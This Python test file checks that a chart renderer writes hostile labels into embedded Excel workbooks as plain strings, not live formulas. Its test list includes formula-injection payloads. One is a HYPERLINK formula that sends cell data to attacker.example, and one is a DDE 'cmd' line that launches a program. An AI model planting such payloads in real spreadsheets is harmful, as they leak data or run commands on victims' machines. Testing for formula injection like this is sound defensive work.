"""4. No live formulas: every text in a chart's embedded workbook is a string cell, whatever it starts with."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pytest

from narrator.render.charts import base_chart
from narrator.tell.story import ChartSeries, ChartSpec, Segment

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2-3",
    "@SUM(A1:A9)",
    "=1/0",
    "http://attacker.example/",
]


def _cells(workbook: bytes) -> list[tuple[str, object]]:
    book = openpyxl.load_workbook(io.BytesIO(workbook))
    return [(cell.data_type, cell.value) for row in book.active.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_category_or_series_name_is_written_as_a_string(text):
    spec = ChartSpec(
        kind="bar",
        title="t",
        categories=(text, "Phone"),
        series=(ChartSeries(name=text, values=(1.0, 2.0), fact_ids=("a", "b")),),
        alt_text="alt",
        source=Segment(id="s", parts=("Source",)),
    )
    cells = _cells(base_chart(spec)[1])
    texts = [(kind, value) for kind, value in cells if isinstance(value, str)]
    assert ("s", text) in texts
    assert all(kind == "s" for kind, _ in texts), texts
    assert not any(kind == "f" for kind, _ in cells)


def _embedded_sheets(document: bytes) -> list[str]:
    sheets = []
    with zipfile.ZipFile(io.BytesIO(document)) as package:
        for name in package.namelist():
            if name.endswith(".xlsx"):
                with zipfile.ZipFile(io.BytesIO(package.read(name))) as book:
                    sheets += [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    return sheets


def test_a_built_pack_with_formula_like_labels_embeds_no_formula(pack, tmp_path):
    import narrator

    pack.replace("kpis.csv", "Web chat", "=HYPERLINK(x)", count=-1)
    pack.replace("values.yaml", "label: Calls contained by a conversational IVR", "label: '=HYPERLINK(x)'")
    result = narrator.build(pack.config, tmp_path / "out", check="off")
    for kind in ("docx", "pptx"):
        sheets = _embedded_sheets(result.outputs[kind].read_bytes())
        assert sheets, f"no chart workbook in the {kind}"
        assert not any(re.search(r"<f[ >]", sheet) for sheet in sheets)
    strings = []
    with zipfile.ZipFile(result.outputs["pptx"]) as package:
        for name in package.namelist():
            if name.endswith(".xlsx"):
                strings += [v for _, v in _cells(package.read(name))]
    assert "=HYPERLINK(x)" in strings
